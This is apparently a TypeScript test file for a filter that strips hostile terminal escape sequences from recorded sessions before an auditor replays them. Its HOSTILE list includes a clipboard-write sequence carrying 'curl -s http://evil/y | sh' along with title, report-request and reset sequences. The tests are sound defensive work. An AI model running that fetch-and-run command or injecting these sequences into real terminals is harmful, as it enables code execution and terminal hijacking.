import { describe, it, expect } from 'vitest';
import { TerminalSafeFilter, terminalSafe } from '../../recorder/recordings/terminal-safe.ts';

const ESC = '\x1b';
const clipboardWrite = `${ESC}]52;c;${Buffer.from('curl -s http://evil/y | sh\n').toString('base64')}\x07`;

/** Everything a recorded session could send to make the auditor's terminal act or answer. */
const HOSTILE = [
  clipboardWrite,
  `${ESC}]0;innocent title\x07`, // title (OSC ended by BEL)
  `${ESC}]2;title${ESC}\\`, // title (OSC ended by ST)
  `\x9d52;c;aGk=\x9c`, // OSC as a C1 control
  `${ESC}P$qm${ESC}\\`, // DCS DECRQSS (asks for a report)
  `${ESC}_apc payload${ESC}\\`,
  `${ESC}^pm payload${ESC}\\`,
  `${ESC}Xsos payload${ESC}\\`,
  `${ESC}[21t`, // report the window title
  `${ESC}[14t`,
  `${ESC}[6n`, // cursor position report
  `${ESC}[5n`,
  `${ESC}[?6n`,
  `${ESC}[c`, // DA
  `${ESC}[0c`,
  `${ESC}[>c`, // DA2
  `${ESC}[=c`, // DA3
  `${ESC}[>q`, // XTVERSION
  `${ESC}[?1$p`, // DECRQM
  `${ESC}[2$p`,
  `${ESC}[x`, // DECREQTPARM
  `${ESC}[?1000h`, // mouse tracking
  `${ESC}[?2004h`,
  `${ESC}[1;2;3;4;5T`, // mouse highlight tracking
  `${ESC}[3J`, // erase the auditor's scrollback
  `${ESC}Z`, // DECID
  `${ESC}c`, // full reset
  '\x05', // ENQ: answerback
  '\x07',
  `\x9b6n`, // CSI as a C1 control
  `${ESC}[${'1;'.repeat(100)}m`, // overlong
];

/** What a shell, ls --color, vim and less use: all of it passes unchanged. */
const SAFE = [
  'plain text, UTF-8 5€ 漢字 🙂\r\n',
  '\ttab\bback',
  `${ESC}[0m${ESC}[1;31mred${ESC}[38;5;208morange${ESC}[38:2::1:2:3mtrue${ESC}[m`,
  `${ESC}[H${ESC}[2J${ESC}[10;5H${ESC}[3A${ESC}[2B${ESC}[4C${ESC}[D${ESC}[K${ESC}[2K${ESC}[J${ESC}[1J`,
  `${ESC}[1;20r${ESC}[r${ESC}[?1049h${ESC}[?1049l${ESC}[?25l${ESC}[?25h${ESC}[?47h${ESC}[?47l`,
  `${ESC}7${ESC}8${ESC}M${ESC}(0lqk${ESC}(B\x0e\x0f`,
  `${ESC}[5L${ESC}[2M${ESC}[3P${ESC}[4@${ESC}[6X${ESC}[2S${ESC}[T${ESC}[12G${ESC}[3d`,
];

function chunked(input: string, cuts: number[]): string {
  const f = new TerminalSafeFilter();
  let out = '';
  let at = 0;
  for (const cut of [...cuts, input.length]) {
    out += f.write(input.slice(at, cut));
    at = cut;
  }
  return out;
}

describe('terminal-safe output filter', () => {
  it('drops clipboard writes, titles, string sequences and every report request', () => {
    for (const seq of HOSTILE) {
      expect(terminalSafe(`a${seq}b`), JSON.stringify(seq)).toBe('ab');
    }
  });

  it('keeps text, colours, cursor movement, erasing, scroll regions, the alternate screen and charsets unchanged', () => {
    for (const seq of SAFE) expect(terminalSafe(seq), JSON.stringify(seq)).toBe(seq);
  });

  it('keeps the allowed modes of a mixed private-mode sequence only', () => {
    expect(terminalSafe(`${ESC}[?1000;1049;1006hx`)).toBe(`${ESC}[?1049hx`);
    expect(terminalSafe(`${ESC}[?1000;1006hx`)).toBe('x');
  });

  it('gives the same output however the input is split: at every position, and one character at a time', () => {
    const input = ['$ ', ...HOSTILE.flatMap((h, i) => [h, SAFE[i % SAFE.length]]), '$ ls\r\n'].join('');
    const whole = terminalSafe(input);
    expect(whole).toBe(['$ ', ...HOSTILE.map((_, i) => SAFE[i % SAFE.length]), '$ ls\r\n'].join(''));
    for (let cut = 0; cut <= input.length; cut++) expect(chunked(input, [cut]), `split at ${cut}`).toBe(whole);
    for (let cut = 1; cut < input.length; cut += 7) expect(chunked(input, [cut - 1, cut]), `split at ${cut - 1} and ${cut}`).toBe(whole);
    expect(chunked(input, [...input].map((_, i) => i))).toBe(whole);
  });

  it('keeps a character made of a surrogate pair whole when a write ends between its halves', () => {
    const f = new TerminalSafeFilter();
    const smile = '🙂';
    expect(f.write(`a${smile[0]}`) + f.write(`${smile[1]}b`)).toBe(`a${smile}b`);
    expect(f.write(`x${smile[0]}`)).toBe('x');
  });

  it('a clipboard write split across writes leaks no part of it, and the text after it is kept', () => {
    const input = `before${clipboardWrite}after`;
    for (let cut = 0; cut <= input.length; cut++) expect(chunked(input, [cut])).toBe('beforeafter');
  });

  it('end() undoes what the played output left set in the terminal', () => {
    const f = new TerminalSafeFilter();
    f.write(`${ESC}[?1049h${ESC}[?25l${ESC}[31m${ESC}[2;10r`);
    expect(f.end()).toBe(`${ESC}[r${ESC}[?1049l${ESC}[?25h${ESC}[0m`);
    expect(f.end()).toBe('');
    f.write(`${ESC}[?1049h${ESC}[?1049l`);
    expect(f.end()).toBe('');
  });
});
